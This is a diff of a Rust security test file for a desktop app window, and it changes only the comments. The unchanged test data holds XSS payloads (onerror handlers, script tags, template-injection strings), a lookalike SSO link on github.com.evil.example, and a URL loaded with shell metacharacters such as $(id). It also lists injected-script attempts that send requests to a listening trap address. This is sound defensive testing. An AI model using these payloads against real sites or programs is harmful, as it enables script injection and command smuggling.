@@ -1,5 +1,5 @@
-//! Script, markup and links in whatever the vendors say, and a script that has got into the page:
-//! in the real window nothing runs, nothing is fetched, and only allowed links open.
+//! Scripts, markup and links in all texts of vendors, and a script that was injected into the page: in the real
+//! window nothing is executed or fetched, and only allowed links open.
 
 use anyhow::{Result, ensure};
 use serde_json::json;
@@ -9,7 +9,8 @@ use thirtyfour::Key;
 
 const PATIENCE: Duration = Duration::from_secs(60);
 
-/// What would run or be fetched, were it taken for markup. `BAIT` becomes an address that listens.
+/// What would be executed or fetched if it were taken for markup. `BAIT` is replaced by an address that records
+/// connections.
 const MARKUP: [&str; 8] = [
     "<img src=BAIT/img onerror=\"window.__ran='img'\">",
     "<script>window.__ran='script'</script><script src=BAIT/script></script>",
@@ -21,7 +22,7 @@ const MARKUP: [&str; 8] = [
     "{@html '<img src=BAIT/svelte onerror=window.__ran=1>'} ${window.__ran='template'} {{constructor.constructor('window.__ran=1')()}}",
 ];
 
-/// What the page may not have, however it came in.
+/// What the page must not contain.
 const FOREIGN: &str = "\
     const found = document.querySelectorAll('[onerror],[onload],[srcdoc],img,image,iframe,object,embed,video,audio,form[action],a[href],base,meta[http-equiv=refresh]');
     return {ran: window.__ran ?? null, found: [...found].map((one) => one.outerHTML), page: [location.href, document.title]};";
@@ -78,7 +79,7 @@ fn set(bait: &TrapServer, markup: &str) -> String {
     markup.replace("BAIT", bait.url("").trim_end_matches('/'))
 }
 
-/// Every text of every vendor ends in markup, once the services have been added.
+/// Every text of every vendor ends in markup, from the time when the services have been added.
 async fn spoil(sandbox: &SandboxProcess, bait: &TrapServer) -> Result<()> {
     let all = format!("{{}} {}", MARKUP.map(|one| set(bait, one)).join(" "));
     let url = bait.url("url");
@@ -173,7 +174,7 @@ async fn only_allowed_links_reach_the_browser() -> Result<()> {
             for link in refused_links(&bait) {
                 ensure!(opens(&link).await?.is_err_and(|refusal| refusal["code"] == "link_refused"), "{link} was opened");
             }
-            // The vendor's own way to have a link shown: GitHub's single sign-on.
+            // A link that the vendor's own header can have shown: GitHub's single sign-on.
             let sso = "required; url=https://github.com.evil.example/orgs/acme/sso";
             let refuses =
                 json!({"kind": "status", "vendor": "github", "code": 403, "body": {"message": "no"}, "headers": {"x-github-sso": sso}});
@@ -184,14 +185,14 @@ async fn only_allowed_links_reach_the_browser() -> Result<()> {
             window.shows("is neither a vendor nor the host of an account").await?;
             sandbox.delete("/faults").await?;
 
-            // One that is allowed comes last: what came before it would stand before it.
+            // An allowed link comes last, so links before it would have been opened before it.
             let fine = format!("https://github.com/acme/{service}/pull/1");
             for link in [fine.as_str(), "https://github.com/`id`$(id);id|id&id>x '\"\n--flag"] {
                 ensure!(opens(link).await?.is_ok(), "{link} was refused");
             }
             let opened = wait_for("two links", async || Ok(Some(browser.opened()).filter(|all| all.len() >= 2))).await?;
             ensure!(opened.iter().any(|line| line.trim_start_matches("open ") == fine), "{opened:?}");
-            // One argument, nothing in it that a shell or a program could take for another.
+            // One argument, without anything that a shell or a program could take for another.
             ensure!(
                 opened.iter().all(|line| line.starts_with("https://github.com/") && !line.contains([' ', '"', '<', '>'])),
                 "{opened:?}"
@@ -202,7 +203,7 @@ async fn only_allowed_links_reach_the_browser() -> Result<()> {
         .await
 }
 
-/// What a script tries that has got in: ways to fetch, to send and to leave. `BAIT` listens.
+/// What an injected script may try: to fetch, to send and to navigate away. `BAIT` records connections.
 const ATTEMPTS: [(&str, &str); 26] = [
     ("picture", "const i = new Image(); i.src = 'BAIT/picture'; document.body.append(i)"),
     ("script", "const s = document.createElement('script'); s.src = 'BAIT/script'; document.body.append(s)"),
@@ -250,7 +251,7 @@ const ATTEMPTS: [(&str, &str); 26] = [
     ),
 ];
 
-/// Where a script might lead the whole page.
+/// Addresses to which a script might navigate the page.
 const PLACES: [&str; 7] = [
     "BAIT/page",
     "https://evil.example/",
@@ -261,7 +262,7 @@ const PLACES: [&str; 7] = [
     "http://localhost:1420/",
 ];
 
-/// The rules that must have been broken, as the page tells it.
+/// The content security rules that must have been violated, as reported in the page.
 const BROKEN: [&str; 9] = [
     "script-src-elem",
     "script-src-attr",
